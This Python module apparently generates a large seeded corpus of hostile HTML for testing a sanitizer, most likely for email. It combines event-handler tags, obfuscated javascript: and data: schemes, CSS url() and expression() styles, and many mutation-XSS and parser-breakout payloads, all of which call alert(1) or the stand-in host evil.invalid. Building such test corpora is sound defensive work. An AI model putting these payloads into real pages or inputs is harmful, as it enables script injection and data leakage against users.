# ruff: noqa: E501
"""HTML that tries to do something. Known shapes × what runs × ways to hide it × what they stand in; all by a seed.

Every payload calls `alert(1)` or asks `evil.invalid` for something, so that a browser tells whether it worked."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from itertools import product

HOST = "evil.invalid"
URL = f"http://{HOST}/x"
EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onfocusin", "onblur", "ontoggle", "onbeforetoggle"),
    *(
        "onanimationstart",
        "onanimationend",
        "ontransitionend",
        "onpointerenter",
        "onwheel",
        "onscroll",
        "onscrollend",
    ),
    *("onbegin", "onend", "onrepeat", "onplay", "oncanplay", "onloadstart", "oncut", "onpaste", "onresize"),
    *("onhashchange", "onpageshow", "onpopstate", "onmessage", "oncontentvisibilityautostatechange", "onsearch"),
    *("ondragstart", "onformdata", "oninvalid", "onselect", "onsubmit", "onreset", "onsecuritypolicyviolation"),
)
HOLDERS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=x"),
    *("a href=#x tabindex=1", "div contenteditable autofocus", "marquee", "select autofocus", "textarea autofocus"),
    *(
        "object data=x",
        "embed src=x",
        "math",
        "table background=x",
        "style",
        "link rel=stylesheet href=x",
        "p popover",
    ),
    *("button autofocus", "form", "keygen autofocus", "isindex type=image src=x", "image src=x", "bgsound src=x"),
)
SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *("\x01javascript:alert(1)", " javascript:alert(1)", "java&#x09;script:alert(1)", "java&NewLine;script:alert(1)"),
    *("&#106;avascript&colon;alert(1)", "&#0000106avascript:alert(1)", "&#x6A&#x61vascript:alert(1)"),
    *(
        "javascript&#58alert(1)",
        "vbscript:msgbox(1)",
        "livescript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
    ),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>"),
    *("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:application/xhtml+xml,<x/>", "blob:x"),
    *(f"//{HOST}/x", f"\\\\{HOST}\\x", f"/\\{HOST}/x", f"http:{HOST}/x", f"https:/\\{HOST}/x", "mhtml:x", "jar:x!/x"),
    *(f"view-source:{URL}", f"filesystem:{URL}", f"ftp://{HOST}/x", f"feed:{URL}", f"ws://{HOST}/x", "about:blank"),
    *(
        "\u2028javascript:alert(1)",
        "javascript\u0000:alert(1)",
        "feed:javascript:alert(1)",
        "jav\u00adascript:alert(1)",
    ),
)
LINKS = (
    *('<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<a xlink:href="{}">x</a>'),
    *('<img src="{}">', '<img srcset="{} 1x">', '<img lowsrc="{}">', '<img dynsrc="{}">', '<img longdesc="{}">'),
    *('<iframe src="{}"></iframe>', '<frameset><frame src="{}"></frameset>', '<object data="{}"></object>'),
    *('<embed src="{}">', '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>'),
    *('<input type=image formaction="{}" src=x>', '<area href="{}" shape=default>', '<base href="{}">'),
    *('<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">', '<script src="{}"></script>'),
    *('<link rel=prefetch href="{}">', '<link rel=preload as=image href="{}">', '<link rel=dns-prefetch href="{}">'),
    *('<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<svg><use href="{}#x"/></svg>'),
    *('<svg><image href="{}"/></svg>', '<svg><animate attributeName=href values="{}"/></svg>'),
    *('<svg><set attributeName=onmouseover to="{}"/></svg>', '<math><maction xlink:href="{}">x</maction></math>'),
    *('<math href="{}">x</math>', '<video poster="{}"></video>', '<video><source src="{}"></video>'),
    *('<audio src="{}" autoplay></audio>', '<table background="{}"><td>x</table>', '<body background="{}">'),
    *('<td background="{}">', '<blockquote cite="{}">x</blockquote>', '<del cite="{}">x</del>', '<html manifest="{}">'),
    *('<applet code=x codebase="{}">', '<object><param name=src value="{}"></object>', '<track src="{}">'),
    *('<a href="#" ping="{}">x</a>', '<portal src="{}">', '<fencedframe src="{}">', '<picture><source srcset="{}"><img></picture>'),
    *('<image xlink:href="{}">', '<xml src="{}" id=x>', '<img src=x usemap="{}">', '<isindex action="{}">'),
    *('<input src="{}" type=image>', '<v:rect><v:fill src="{}"></v:rect>', '<svg><feImage href="{}"/></svg>'),
    *('<svg><script href="{}"/></svg>', '<svg><foreignObject><iframe src="{}"></iframe></foreignObject></svg>'),
)  # fmt: skip
STYLES = (
    *(f"background:url({URL})", f"background-image:url('{URL}')", f"list-style:url({URL})", f"content:url({URL})"),
    *(f"border-image:url({URL})", f"cursor:url({URL}),auto", f"background:u\\72l({URL})", f"background:url\\28 {URL})"),
    *(f"background:image-set('{URL}' 1x)", f"background:image(url({URL}))", f"--a:url({URL});background:var(--a)"),
    *(f"background:/**/url(/**/{URL})", f'background:url("{URL}"', f"mask:url({URL})", f"filter:url({URL}#x)"),
    *("width:expression(alert(1))", "width:e/**/xpression(alert(1))", "behavior:url(x.htc)", "-moz-binding:url(x#x)"),
    *("position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999", "position:absolute;top:-99px"),
    *(f"background:url(&#x22;{URL}&#x22;)", f"color:red;}}*{{background:url({URL})", f"font:1px/1 x;src:url({URL})"),
    *(f"background:attr(title url,url({URL}))", f"background:cross-fade(url({URL}),red)", "color:red/*"),
    *(f"shape-outside:url({URL})", f"offset-path:url({URL})", "animation:x 1s", f"@import '{URL}'", f"clip-path:url({URL})"),
)  # fmt: skip
SHEETS = (
    *(f"@import '{URL}';", f"@import url({URL});", f"*{{background:url({URL})}}", f"input[value^=a]{{background:url({URL})}}"),
    *(f"@font-face{{font-family:x;src:url({URL})}}*{{font-family:x}}", f"body:has(a){{background:url({URL})}}"),
    *("</style><img src=x onerror=alert(1)>", "<!--</style><img src=x onerror=alert(1)>-->", "@namespace x;"),
)  # fmt: skip
WHOLE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>", "<script>alert(1)", "<script x=\">\">alert(1)</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p id=\"</noframes><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><svg onload=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe srcdoc='&lt;svg onload=alert(1)&gt;'></iframe>", "<iframe><img src=x onerror=alert(1)></iframe>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<?x ><img src=x onerror=alert(1)>?>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    "<img src=x onerror=alert(1)//", "<img src='x' 'onerror=alert(1)>", "<img src=`x` onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>", "<img \x00src=x onerror=alert(1)>", "<im\x00g src=x onerror=alert(1)>", "<img src=x one\x00rror=alert(1)>", "<\x00img src=x onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">", "<a title='\"><img src=x onerror=alert(1)>' href=x>x</a>", "<a title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</a>",
    "<img alt=\"x src=\" title=\"http://evil.invalid/x\" src=cid:x>", "<img alt='\" src=\"http://evil.invalid/x\"' src=\"cid:none\">", "<img src=\"cid:x&quot; onerror=alert(1) x=&quot;\">",
    "<img src=\"cid:logo@acme\" alt=\"&quot; src=&quot;http://evil.invalid/x\">", "<img src=\"HTTP://evil.invalid/x\">", "<img src=\"http&#58;//evil.invalid/x\">", "<img src=\" http://evil.invalid/x\">",
    "<img src=\"\u00a0http://evil.invalid/x\">", "<img src=\"\x1chttp://evil.invalid/x\">", "<img src=\"ht\ntp://evil.invalid/x\">", "<img\u00a0src=http://evil.invalid/x>", "<img src=http://evil.invalid/x src=cid:x>",
    "<b data-quoted=1 onclick=alert(1)>x</b>", "<blockquote type=cite><img src=x onerror=alert(1)></blockquote>", "<div class=gmail_quote><svg onload=alert(1)></div>",
    "<div class=gmail_quote><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></div>",
    "<p class=MsoNormal style=\"color:red\" title='\"><img src=x onerror=alert(1)>'>x</p>", "<p class=\"MsoNormal\"x=\"><img src=x onerror=alert(1)>\">x", "<li class=MsoList title=\"<img src=x onerror=alert(1)>\">x",
    "<p title='a style=\"' class=MsoNormal x='\"><svg onload=alert(1)>'>", "</body></html><script>alert(1)</script>", "</div></div></iframe></article><img src=x onerror=alert(1)>",
    "<table><caption><svg><title><table><style><!--</style><img src=x onerror=alert(1)>", "<select><style></select><img src=x onerror=alert(1)></style>", "<select><template><svg onload=alert(1)></select>",
    "<form id=f><input name=parentNode></form><img name=getElementById>", "<form><input name=attributes><input name=nodeName></form><img src=x onerror=alert(1)>", "<a id=document href=x>", "<img name=cookie>",
    "<object type=text/html data=data:text/html,<script>alert(1)</script>></object>", "<x onclick=alert(1)>x</x>", "<x-x onfocus=alert(1) tabindex=1 autofocus>", "<marquee onstart=alert(1)>x</marquee>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>alert(1)</script>", "\xbcscript\xbealert(1)\xbc/script\xbe", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}", "{% debug %}{{ request.user }}", "${alert(1)}", "';alert(1);'", "\"><script>alert(1)</script>", "'><svg onload=alert(1)>", "javascript:alert(1)", "]]><script>alert(1)</script>",
    "<hx hx-get=\"/desk/\" hx-trigger=load hx-on::load=alert(1)>x</hx>", "<div hx-on:click=alert(1) data-hx-get=http://evil.invalid/x data-hx-trigger=load>x</div>", "<a data-compose=note popovertarget=menu-more href=x>x</a>",
)  # fmt: skip
AROUND: tuple[Callable[[str], str], ...] = (
    lambda x: x,
    lambda x: f"<div><p>words {x} words</p></div>",
    lambda x: f"<div class=gmail_quote><blockquote>{x}</blockquote></div>",
    lambda x: f"<table><tr><td>{x}</table>",
    lambda x: f"<svg>{x}</svg>",
    lambda x: f"<math><mtext>{x}",
    lambda x: f"<!--{x}-->{x}",
    lambda x: f"<style>{x}</style>{x}",
    lambda x: f"<b><i><a href=http://ok.example/>{x}",
    lambda x: f"<select><option>{x}</select>",
    lambda x: f"<title>{x}</title>{x}",
    lambda x: "<p>" * 40 + x,
)


def everything() -> Iterator[str]:
    """All of them, some 20,000."""
    for inner, around in product(_bare(), AROUND):
        yield around(inner)


def some(number: int, seed: int = 2) -> list[str]:
    """Every whole one, and a sample of the others."""
    others = list(everything())
    random.Random(seed).shuffle(others)
    return [*WHOLE, *others][:number]


def _bare() -> Iterator[str]:
    yield from WHOLE
    for holder, event in product(HOLDERS, EVENTS):
        yield f"<{holder} {event}=alert(1)>x"
    for link, scheme in product(LINKS, SCHEMES):
        yield link.replace("{}", scheme)
    for style in STYLES:
        yield f'<p style="{style}">x</p>'
        yield f"<p style='{style}' title='a'>x</p>"
    for sheet in SHEETS:
        yield f"<style>{sheet}</style><p>x</p>"
        yield f"<svg><style>{sheet}</style></svg>"
